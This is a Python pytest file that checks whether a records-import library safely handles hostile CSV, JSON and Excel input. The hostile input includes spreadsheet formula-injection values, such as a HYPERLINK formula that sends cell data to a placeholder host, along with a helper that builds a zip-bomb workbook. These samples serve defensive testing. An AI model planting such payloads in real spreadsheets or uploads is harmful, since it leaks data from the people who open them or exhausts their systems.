"""Hostile or broken content is reported or neutralised, never a crash."""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest

from expediente.tables import Limits, ProblemCode, check_file, neutralise_formula, read_records

HEADER = "record_id,name,kind,description\n"


def test_formula_cells_are_kept_verbatim_on_import(write_file: Callable[..., Path]) -> None:
    text = HEADER + 'S1,=HYPERLINK("http://x.invalid/?"&A1),source.press,@SUM(1+1)\n'
    [record] = read_records(write_file("s.csv", text), "sources")
    assert record.name == '=HYPERLINK("http://x.invalid/?"&A1)'
    assert record.description == "@SUM(1+1)"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=CMD()", "'=CMD()"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("María", "María"),
        ("", ""),
    ],
)
def test_neutralise_formula_for_export(value: str, safe: str) -> None:
    assert neutralise_formula(value) == safe


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f"])
def test_control_characters_are_reported(write_file: Callable[..., Path], char: str) -> None:
    path = write_file("s.csv", HEADER + f"S1,Uno{char}Dos,source.press,\nS2,Tres,source.press,\n")
    report = check_file(path, "sources")
    assert [(p.row, p.column, p.code) for p in report.problems] == [
        (2, "name", ProblemCode.BAD_ENCODING)
    ]
    assert report.valid_rows == 1


def test_utf16_file_without_bom_is_reported_not_crashed(write_file: Callable[..., Path]) -> None:
    path = write_file("s.csv", (HEADER + "S1,Uno,source.press,\n").encode("utf-16-le"))
    report = check_file(path, "sources")
    assert not report.ok
    assert ProblemCode.BAD_ENCODING in report.counts


def test_cell_beyond_the_parser_limit(write_file: Callable[..., Path]) -> None:
    huge = "x" * 3_000
    path = write_file("s.csv", HEADER + f'S1,Uno,source.press,"{huge}"\nS2,Dos,source.press,\n')
    limits = Limits(max_cell_chars=100, max_long_text_chars=1_000)
    report = check_file(path, "sources", limits=limits)
    assert report.problem_count >= 1
    assert report.problems[0].row == 2


def test_json_object_over_the_row_limit(write_file: Callable[..., Path]) -> None:
    big = '{"record_id": "S1", "name": "%s", "kind": "source.press"}' % ("n" * 5_000)
    small = '{"record_id": "S2", "name": "Dos", "kind": "source.press"}'
    limits = Limits(max_row_bytes=1_000)
    report = check_file(write_file("s.jsonl", big + "\n" + small + "\n"), "sources", limits=limits)
    assert [(p.row, p.code) for p in report.problems] == [(1, ProblemCode.MALFORMED_FILE)]
    assert report.valid_rows == 1
    array = write_file("s.json", f"[{small}, {big}]")
    report = check_file(array, "sources", limits=limits)
    assert [(p.row, p.code) for p in report.problems] == [(2, ProblemCode.MALFORMED_FILE)]


def test_tabs_and_newlines_inside_cells_are_fine(write_file: Callable[..., Path]) -> None:
    path = write_file("s.csv", HEADER + 'S1,Uno,source.press,"a\tb\r\nc"\n')
    [record] = read_records(path, "sources")
    assert record.description == "a\tb\r\nc"


@pytest.mark.parametrize("seed", range(12))
def test_random_bytes_never_crash(tmp_path: Path, seed: int) -> None:
    rng = random.Random(seed)
    body = bytes(rng.randrange(256) for _ in range(rng.randint(0, 3_000)))
    for suffix, prefix in (
        (".csv", HEADER.encode()),
        (".json", b"["),
        (".jsonl", b""),
        (".xlsx", b"PK\x03\x04"),
    ):
        path = tmp_path / f"random{suffix}"
        path.write_bytes(prefix + body)
        report = check_file(path, "sources")  # must return, whatever it finds
        assert report.rows >= 0


@pytest.mark.parametrize("seed", range(6))
def test_random_text_rows_never_crash(write_file: Callable[..., Path], seed: int) -> None:
    rng = random.Random(seed)
    alphabet = 'abcñá,;"\n\r\t=+-@/0123456789 \x00\u202e\ufeff'
    body = "".join(rng.choice(alphabet) for _ in range(4_000))
    report = check_file(write_file("s.csv", HEADER + body), "sources")
    assert report.rows >= 0


def test_a_quote_never_closed_is_reported_not_swallowing_the_rest(
    write_file: Callable[..., Path],
) -> None:
    # A stray opening quote in the last column would make a lenient parser read every later
    # line into that one cell: the file would "pass" with most of its rows silently gone.
    rows = "".join(f"S{i},Fuente {i},source.press,\n" for i in range(3, 40))
    path = write_file("s.csv", HEADER + 'S1,Uno,source.press,\nS2,Dos,source.press,"nota\n' + rows)
    report = check_file(path, "sources")
    assert not report.ok
    [problem] = report.problems
    assert (problem.row, problem.code) == (3, ProblemCode.MALFORMED_FILE)
    assert "never closed" in problem.message


def test_text_after_a_closing_quote_is_reported(write_file: Callable[..., Path]) -> None:
    path = write_file("s.csv", HEADER + 'S1,"Uno"Dos,source.press,\nS2,Tres,source.press,\n')
    report = check_file(path, "sources")
    assert [(p.row, p.code) for p in report.problems] == [(2, ProblemCode.MALFORMED_FILE)]


def test_a_long_bad_cell_is_quoted_short_in_its_problem(write_file: Callable[..., Path]) -> None:
    # A report line per bad cell: a 10,000-character cell must not put 10,000 characters on it.
    long = "z" * 10_000
    path = write_file(
        "a.csv",
        "record_id,victim_record_id,act_type,date,weight_lost_kg\n"
        f"A1,V1,{long},{long},{long}\n",
    )
    problems = check_file(path, "acts").problems
    assert {p.column for p in problems} == {"act_type", "date", "weight_lost_kg"}
    for problem in problems:
        assert len(problem.message) < 300 and "10,000 characters" in problem.message


def _workbook_with_a_member(path: Path, name: str, size: int) -> Path:
    """A real workbook, plus one highly compressible member of `size` bytes."""
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["record_id", "name", "kind"])
    book.active.append(["S1", "Radio Sintética", "source.press"])
    book.save(path)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"\0" * size)
    return path


def test_a_zip_bomb_workbook_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    bomb = _workbook_with_a_member(tmp_path / "bomb.xlsx", "xl/media/blank.bin", 64 * 1024**2)
    assert bomb.stat().st_size < 1024**2  # 64 MiB of zeros packs into kilobytes
    report = check_file(bomb, "sources")
    [problem] = report.problems
    assert problem.code is ProblemCode.MALFORMED_FILE
    assert "zip bomb" in problem.message and "would unpack to 67," in problem.message
    assert report.rows == 0


def test_a_workbook_over_the_unpacked_limit_is_refused(tmp_path: Path) -> None:
    book = _workbook_with_a_member(tmp_path / "big.xlsx", "xl/media/blank.bin", 2 * 1024**2)
    report = check_file(book, "sources", limits=Limits(max_unzipped_bytes=1024**2))
    assert [p.code for p in report.problems] == [ProblemCode.MALFORMED_FILE]
    assert "would unpack to" in report.problems[0].message


def test_an_ordinary_workbook_is_read(tmp_path: Path) -> None:
    book = _workbook_with_a_member(tmp_path / "ok.xlsx", "docProps/extra.xml", 10_000)
    report = check_file(book, "sources")
    assert not report.problems
    assert report.rows == 1
